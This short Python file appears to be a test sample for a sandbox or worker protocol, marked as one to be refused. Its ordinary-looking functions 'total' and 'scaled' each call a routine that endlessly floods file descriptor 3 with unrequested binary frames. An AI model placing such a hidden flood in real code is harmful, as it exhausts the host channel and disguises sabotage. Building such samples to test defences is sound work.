# Fills the channel with frames that nobody asked for: refused
import os
import struct


def attempt():
    frame = struct.pack("<I", 9) + b"v" + bytes(8)
    while True:
        os.write(3, frame * 1000)


def total(v):
    return attempt()


def scaled(X, factor):
    return attempt()
